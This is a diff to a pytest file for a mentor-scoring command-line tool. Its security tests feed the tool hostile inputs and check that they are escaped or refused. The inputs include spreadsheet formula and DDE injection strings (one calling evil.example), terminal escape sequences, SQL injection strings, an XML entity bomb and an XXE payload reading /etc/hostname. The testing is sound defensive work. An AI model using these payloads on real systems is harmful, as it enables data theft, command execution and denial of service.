@@ -39,10 +39,30 @@ def test_query_regulars_and_pair_print_tables(scored, capsys):
     pair = truth[0]
     assert main(["query", "regulars", "--author", pair["author_id"], "--top", "3", "--warehouse", warehouse]) == 0
     table = capsys.readouterr().out.splitlines()
-    assert table[0].split()[:3] == ["site", "reader_id", "regularity"] and 1 < len(table) <= 4
+    assert table[0].split()[:3] == ["site", "reader_id", "strength"] and 1 < len(table) <= 4
     assert main(["query", "pair", "--author", pair["author_id"], "--reader", pair["reader_id"],
                  "--warehouse", warehouse]) == 0
+    explained = capsys.readouterr().out
+    assert f"{pair['author_id']} (mentor)" in explained and "weight 4" in explained and "mentor_activity" in explained
+    assert main(["query", "history", "--author", pair["author_id"], "--reader", pair["reader_id"],
+                 "--warehouse", warehouse]) == 0
     assert "mentor_score" in capsys.readouterr().out
+    assert main(["query", "top", "--top", "2", "--as-of", "2026-01-20", "--warehouse", warehouse, "--format", "jsonl"]) == 0
+    top = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    assert len(top) == 2 and {t["as_of"] for t in top} == {"2026-01-20T00:00:00.000Z"}
+
+
+def test_evaluate_prints_the_strength_against_the_baselines(scored, tmp_path, capsys):
+    warehouse, _, truth = scored
+    actors = tmp_path / "actors.jsonl"
+    # An outside signal that ranks planted mentors above their mentees.
+    actors.write_text("".join(json.dumps({"site": p["site"], "actor_id": a, "signal": s}) + "\n"
+                              for p in truth for a, s in ((p["author_id"], 10), (p["reader_id"], 1))))
+    assert main(["evaluate", "--period", "7d", "--actors", str(actors), "--warehouse", warehouse]) == 0
+    out = capsys.readouterr().out
+    for ranking in ("| strength |", "| decayed reader_comments |", "| decayed reader_comments + author_replies |",
+                    "| decayed sum of window mentor_score |", "| strength's mentor side (more partners) |"):
+        assert ranking in out
 
 
 def test_export_writes_whole_tables_as_csv_or_jsonl(scored, capsys):
@@ -68,14 +88,15 @@ def test_durations():
         90, 45, 1800, 21600, 86400, 1209600, 5400]
 
 
-def test_import_prints_what_was_read_converted_and_skipped(tmp_path, capsys):
+def test_import_prints_what_was_read_converted_and_skipped(tmp_path, capsys, monkeypatch):
+    monkeypatch.setenv("SM_KEY", "a-key-of-sixteen-bytes-or-more")
     folder = tmp_path / "tiny"
     folder.mkdir()
     (folder / "Posts.xml").write_text(
         '<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="7" />'
         '<row Id="2" PostTypeId="2" ParentId="1" CreationDate="2018-03-12T18:00:00.000" /></posts>', encoding="utf-8")
     out = tmp_path / "events.jsonl"
-    assert main(["import", "stackexchange", str(folder), "--to", f"jsonl:{out}", "--pseudonymize", "secret"]) == 0
+    assert main(["import", "stackexchange", str(folder), "--to", f"jsonl:{out}", "--pseudonymize-key-env", "SM_KEY"]) == 0
     printed = capsys.readouterr().out
     assert "records read               2" in printed and "deleted_user" in printed and "Posts.xml:row 2" in printed
     (record,) = [json.loads(line) for line in out.read_text().splitlines()]
@@ -119,3 +140,257 @@ def test_a_killed_run_is_visible_as_partial_to_query_and_export(scored, tmp_path
     assert "warning: the newest run" in err and "did not finish (status RUNNING" in err and "may be partial" in err
     assert main(["export", "pair_scores", "--warehouse", warehouse]) == 0
     assert "did not finish" in capsys.readouterr().err
+
+
+# --- hostile input and security (issue 12) -------------------------------------------------------
+
+import os
+import subprocess
+import sys
+import textwrap
+from pathlib import Path
+
+from helpers import E, score_row
+
+REPO = Path(__file__).resolve().parents[2]
+
+
+def cli(*args, cwd=REPO, env=None, timeout=300):
+    """The command line in a fresh process, as a user runs it: (exit code, stdout, stderr)."""
+    done = subprocess.run([sys.executable, "-m", "pipelines.cli", *args], cwd=cwd, capture_output=True, text=True,
+                          timeout=timeout, env={**os.environ, **(env or {})})
+    return done.returncode, done.stdout, done.stderr
+
+
+def one_line_error(err: str) -> str:
+    lines = err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
+    return lines[0]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+           "\tx", "\x1b[2J\x1b]0;pwned\x07evil"]
+
+
+@pytest.fixture
+def hostile_warehouse(warehouse_path):
+    from warehouse import open_warehouse
+
+    open_warehouse(warehouse_path).write_scores(
+        [score_row(author, "reader", E, 0.5) for author in HOSTILE] + [score_row("a", "r", E, -0.25)])
+    return warehouse_path
+
+
+def test_csv_output_escapes_cells_a_spreadsheet_would_run(hostile_warehouse, capsys):
+    # "reader" talks with all six, so it is the mentor side: its regulars are the hostile ids
+    for command, column in ((["export", "pair_scores"], "author_id"), (["query", "regulars", "--author", "reader"], "reader_id")):
+        assert main([*command, "--format", "csv", "--warehouse", hostile_warehouse]) == 0
+        rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+        authors = {r[column] for r in rows if r[column] not in ("a", "r")}
+        assert authors == {"'" + a if a[0] in "=+-@\t" else a for a in HOSTILE}
+    assert main(["export", "pair_scores", "--format", "csv", "--warehouse", hostile_warehouse]) == 0
+    numbers = [r["mentor_score"] for r in csv.DictReader(io.StringIO(capsys.readouterr().out)) if r["author_id"] == "a"]
+    assert numbers == ["-0.25"]  # numbers stay numbers
+
+
+def test_the_table_shows_control_characters_instead_of_sending_them(hostile_warehouse, capsys):
+    assert main(["query", "regulars", "--author", "reader", "--warehouse", hostile_warehouse]) == 0
+    out = capsys.readouterr().out
+    assert "\x1b" not in out and "\x07" not in out and "\\x1b[2J\\x1b]0;pwned\\x07evil" in out
+
+
+def test_bound_sql_parameters_find_nothing_and_break_nothing(hostile_warehouse, capsys):
+    for reader in ("reader' OR '1'='1", "x'; DROP TABLE pair_scores; --"):
+        assert main(["query", "mentors", "--reader", reader, "--format", "jsonl", "--warehouse", hostile_warehouse]) == 0
+        assert capsys.readouterr().out == ""
+    assert main(["export", "pair_scores", "--warehouse", hostile_warehouse]) == 0
+    assert len(capsys.readouterr().out.splitlines()) == len(HOSTILE) + 1
+
+
+@pytest.mark.parametrize("args, message", [
+    (["query", "mentors", "--reader", "r", "--half-life-days", "0"], "must be above 0"),
+    (["query", "mentors", "--reader", "r", "--half-life-days", "nan"], "not a finite number"),
+    (["query", "regulars", "--author", "a", "--half-life-days", "inf"], "not a finite number"),
+    (["query", "mentors", "--reader", "r", "--top", "-1"], "must be 1 or more"),
+    (["query", "mentors", "--reader", "r", "--top", "0"], "must be 1 or more"),
+    (["run", "--input", "x", "--comment-saturation", "nan"], "not a finite number"),
+    (["run", "--input", "x", "--speed-weight", "2"], "between 0 and 1"),
+    (["generate", "--out", "x", "--invalid-rate", "-0.1"], "between 0 and 1"),
+    (["import", "reddit", "x", "--to", "jsonl:y", "--max-line-bytes", "0"], "must be 1 or more"),
+])
+def test_parameters_out_of_range_are_refused_with_the_reason(args, message, capsys):
+    with pytest.raises(SystemExit) as exit_:
+        main(args)
+    assert exit_.value.code == 2 and message in capsys.readouterr().err
+
+
+def _hold(path: str, read_only: bool) -> subprocess.Popen:
+    """Another process holding the warehouse file open (read-only: a shared lock; else exclusive)."""
+    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent(f"""
+        import sys, duckdb
+        connection = duckdb.connect({path!r}, read_only={read_only})
+        print("holding", flush=True)
+        sys.stdin.read()
+    """)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    assert holder.stdout.readline().strip() == "holding"
+    return holder
+
+
+def test_query_and_export_open_the_warehouse_read_only(hostile_warehouse, capsys):
+    holder = _hold(hostile_warehouse, read_only=True)  # a read-write open would conflict with its shared lock
+    try:
+        assert main(["query", "history", "--author", "a", "--reader", "r", "--format", "jsonl",
+                     "--warehouse", hostile_warehouse]) == 0
+        assert main(["export", "pair_scores", "--warehouse", hostile_warehouse]) == 0
+        assert len(capsys.readouterr().out.splitlines()) == 1 + len(HOSTILE) + 1
+    finally:
+        holder.communicate("")
+
+
+@pytest.mark.skipif(os.geteuid() != 0 or not Path("/usr/bin/setpriv").exists(), reason="needs root to become nobody")
+def test_a_warehouse_on_a_read_only_file_and_folder_is_readable_and_refused_for_writing(hostile_warehouse):
+    import shutil
+    import tempfile
+
+    folder = Path(tempfile.mkdtemp(dir="/tmp"))
+    try:
+        warehouse = folder / "w.duckdb"
+        shutil.copy(hostile_warehouse, warehouse)
+        warehouse.chmod(0o444)
+        folder.chmod(0o555)
+        as_nobody = ["/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
+        probe = subprocess.run([*as_nobody, sys.executable, "-c", "import pipelines.cli"], cwd=REPO, capture_output=True)
+        if probe.returncode != 0:
+            pytest.skip("user nobody cannot read this checkout or its interpreter")
+        query = subprocess.run([*as_nobody, sys.executable, "-m", "pipelines.cli", "export", "pair_scores",
+                                "--warehouse", str(warehouse)], cwd=REPO, capture_output=True, text=True, timeout=120)
+        assert query.returncode == 0 and len(query.stdout.splitlines()) == len(HOSTILE) + 1, query.stderr
+        run = subprocess.run([*as_nobody, sys.executable, "-m", "pipelines.cli", "run", "--input", str(REPO / "setup.py"),
+                              "--warehouse", str(warehouse)], cwd=REPO, capture_output=True, text=True, timeout=120)
+        assert run.returncode == 2 and "for writing" in one_line_error(run.stderr)
+    finally:
+        folder.chmod(0o755)
+        shutil.rmtree(folder)
+
+
+@pytest.mark.parametrize("where", ["locked", "memory", "missing folder"])
+def test_run_reports_a_warehouse_it_cannot_write_before_the_pipeline_starts(where, tmp_path, capsys):
+    events = tmp_path / "events.jsonl"
+    events.write_text('{"event_id": "e"}\n')
+    warehouse = {"locked": str(tmp_path / "w.duckdb"), "memory": ":memory:",
+                 "missing folder": str(tmp_path / "no" / "such" / "w.duckdb")}[where]
+    holder = _hold(warehouse, read_only=False) if where == "locked" else None
+    try:
+        assert main(["run", "--input", str(events), "--warehouse", warehouse]) == 2
+    finally:
+        if holder:
+            holder.communicate("")
+    err = capsys.readouterr().err
+    line = one_line_error(err)  # and no "Scoring ..." line: the pipeline never started
+    assert {"locked": "another process holds it", "memory": "in-memory",
+            "missing folder": "folder exists"}[where] in line
+
+
+def test_a_missing_input_is_one_line_in_a_fresh_process(tmp_path):
+    code, _, err = cli("run", "--input", str(tmp_path / "nothing-here.avro"), "--warehouse", str(tmp_path / "w.duckdb"))
+    assert code == 2 and "no input file matches" in one_line_error(err)
+
+
+def test_kafka_errors_are_one_line(tmp_path):
+    from services.maven import free_port
+
+    code, _, err = cli("kafka", "status", "--port", str(free_port()), "--state-dir", str(tmp_path / "k"), timeout=120)
+    assert code in (0, 1, 2) and "Traceback" not in err
+    code, _, err = cli("produce", "--bootstrap-servers", f"127.0.0.1:{free_port()}", "--topic", "t", "--scale", "0.01",
+                       timeout=120)
+    assert code == 2 and "--bootstrap-servers" in one_line_error(err)
+
+
+def test_client_errors_that_are_no_runtime_errors_are_one_line_with_what_to_do():
+    import duckdb
+    from kafka.errors import KafkaTimeoutError
+
+    from pipelines.cli import describe, exit_code
+
+    kafka_error = KafkaTimeoutError("Unable to bootstrap from 127.0.0.1:1")  # not a RuntimeError since kafka-python 2.1
+    assert not isinstance(kafka_error, RuntimeError) and exit_code(kafka_error) == 2
+    assert describe(kafka_error) == ("Kafka: KafkaTimeoutError: Unable to bootstrap from 127.0.0.1:1; check "
+                                     "--bootstrap-servers, that the broker is up, and the topic")
+    missing = duckdb.CatalogException("Table with name pair_scores does not exist!\nDid you mean ...")
+    assert exit_code(missing) == 2 and "\n" not in describe(missing) and describe(missing).startswith("DuckDB warehouse")
+    assert exit_code(TypeError("bug")) == 1
+
+
+XML_BOMB = """<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">
+<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="&lol9;" /></posts>"""
+XXE = """<?xml version="1.0"?>
+<!DOCTYPE posts [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>
+<posts><row Id="1" PostTypeId="1" CreationDate="2018-03-12T17:00:00.000" OwnerUserId="&xxe;" /></posts>"""
+
+
+@pytest.mark.parametrize("xml", [XML_BOMB, XXE], ids=["entity-expansion", "external-entity"])
+def test_xml_bombs_and_external_entities_are_refused_in_one_line(xml, tmp_path, capsys):
+    (tmp_path / "se").mkdir()
+    (tmp_path / "se" / "Posts.xml").write_text(xml)
+    out = tmp_path / "events.jsonl"
+    assert main(["import", "stackexchange", str(tmp_path / "se"), "--to", f"jsonl:{out}"]) == 2
+    line = one_line_error(capsys.readouterr().err)
+    assert "Posts.xml: not well-formed XML" in line and not out.exists()
+
+
+def test_the_stackexchange_example_without_its_dump_is_one_line(tmp_path):
+    done = subprocess.run([sys.executable, "docs/stackexchange_example.py", str(tmp_path / "absent")], cwd=REPO,
+                          capture_output=True, text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})
+    assert done.returncode == 2 and "Posts.xml" in one_line_error(done.stderr)
+
+
+def test_an_unexpected_error_is_one_line_and_verbose_shows_the_traceback(monkeypatch, capsys):
+    from pipelines.commands import warehouse as commands
+
+    def broken(args):
+        raise TypeError("a bug")
+
+    monkeypatch.setattr(commands, "cmd_export", broken)
+    assert main(["export", "pair_scores"]) == 1
+    assert "unexpected TypeError: a bug" in one_line_error(capsys.readouterr().err)
+    assert main(["-v", "export", "pair_scores"]) == 1
+    assert "Traceback" in capsys.readouterr().err
+
+
+def test_import_to_kafka_takes_the_kafka_security_options(tmp_path, monkeypatch, capsys):
+    monkeypatch.delenv("SOCIAL_MENTORS_KAFKA_SASL_PASSWORD", raising=False)
+    dump = tmp_path / "dump.ndjson"
+    dump.write_text('{"id": "s1", "author": "op", "created_utc": 1420452000, "subreddit": "r"}\n')
+    assert main(["import", "reddit", str(dump), "--to", "kafka://127.0.0.1:1/t", "--security-protocol", "SASL_SSL",
+                 "--sasl-mechanism", "SCRAM-SHA-256", "--sasl-username", "u"]) == 2
+    assert "SASL password is missing" in one_line_error(capsys.readouterr().err)
+
+
+def test_the_import_summary_shows_escapes_from_the_archive_as_text(tmp_path, capsys):
+    dump = tmp_path / "dump.ndjson"
+    dump.write_text(json.dumps({"id": "\x1b]0;pwned\x07x", "author": "op", "created_utc": 9_000_000_000}) + "\n")
+    assert main(["import", "reddit", str(dump), "--to", f"jsonl:{tmp_path / 'e.jsonl'}"]) == 0
+    out = capsys.readouterr().out
+    assert "invalid_bad_timestamp" in out and "\x1b" not in out and "\\x1b]0;pwned\\x07x" in out
+
+
+def test_a_traceback_printed_by_beams_worker_stays_off_the_console_and_other_text_passes():
+    # Beam's sdk_worker._execute prints a failed instruction's traceback to stderr before logging it;
+    # a drained stream met one ("Bundle is not in a finalizable state") after every row was written
+    from pipelines.cli import _QuietBeamWorkerTracebacks
+
+    console = io.StringIO()
+    quiet = _QuietBeamWorkerTracebacks(console)
+    worker_traceback = ('Traceback (most recent call last):\n  File "/x/site-packages/apache_beam/runners/worker/'
+                        'sdk_worker.py", line 310, in _execute\nRuntimeError: Bundle is not in a finalizable state\n')
+    print(worker_traceback, file=quiet)
+    print("Run summary", file=quiet)
+    print('Traceback (most recent call last):\n  File "/x/pipelines/cli.py", line 1\nValueError: ours', file=quiet)
+    assert console.getvalue() == ('Run summary\nTraceback (most recent call last):\n  File "/x/pipelines/cli.py", '
+                                  'line 1\nValueError: ours\n')
